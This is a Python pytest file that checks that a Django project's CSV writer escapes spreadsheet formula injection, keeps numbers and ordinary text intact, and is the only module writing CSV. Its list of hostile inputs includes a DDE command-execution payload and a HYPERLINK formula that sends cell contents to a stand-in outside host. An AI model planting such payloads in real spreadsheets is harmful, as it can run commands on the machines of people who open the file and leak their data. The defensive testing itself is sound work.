"""Does a table that is written open as text and numbers in a spreadsheet, and is there one way to write one?"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Final

import pytest
from django.conf import settings

from crsweb.spreadsheet import Cell, writer

HOSTILE: Final = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\tx",
    "\nx",
    " =1",
    "\N{NO-BREAK SPACE}=1",
    "\N{ZERO WIDTH SPACE}=1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "\x0b=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "\N{MINUS SIGN}1",
    '=HYPERLINK("https://elsewhere.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
)


def file_of(*rows: list[Cell]) -> str:
    stream = io.StringIO()
    row = writer(stream)
    for cells in rows:
        row(cells)
    return stream.getvalue()


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_no_formula_wherever_a_cell_begins(text: str) -> None:
    assert read(file_of(["a", text])) == [["a", f"'{text}"]]
    if not text.endswith("x"):  # another country's program begins a cell behind a semicolon, and one by lines
        assert read(file_of(["a", f"x;{text}"])) == [["a", f"x;'{text}"]]
        assert read(file_of(["a", f"x\n{text}"])) == [["a", f"x\n'{text}"]]


def test_a_number_stays_a_number_and_nothing_stays_empty() -> None:
    assert read(file_of([-1, Decimal("-0.50"), 38.5, 0, None, ""])) == [["-1", "-0.50", "38.5", "0", "", ""]]


def test_a_harmless_text_stays_as_it_is() -> None:
    for text in ("Lindqvist-Okafor", 'a,"b"\nc', "38.5 °C; 120/80", "at 14:00 - late", "Żółć 患者", "1 = 1"):
        assert read(file_of([text])) == [[text]]
    assert read(file_of(["a\rb", "c\r\nd", "\re"])) == [["a\nb", "c\nd", "'\ne"]]  # no cell ends its row
    assert read(file_of(["a\0b"])) == [["a\N{REPLACEMENT CHARACTER}b"]]


def test_there_is_one_way_to_write_a_table() -> None:
    base = Path(settings.BASE_DIR)
    found = {
        str(module.relative_to(base))
        for package in ("crsweb", "grading", "patients")
        for module in (base / package).rglob("*.py")
        if re.search(r"^\s*(?:import csv|from csv\b)", module.read_text(encoding="utf-8"), re.MULTILINE)
        or "text/csv" in (text := module.read_text(encoding="utf-8"))
        and "crsweb.spreadsheet" not in text
    }
    assert found == {"crsweb/spreadsheet.py"}
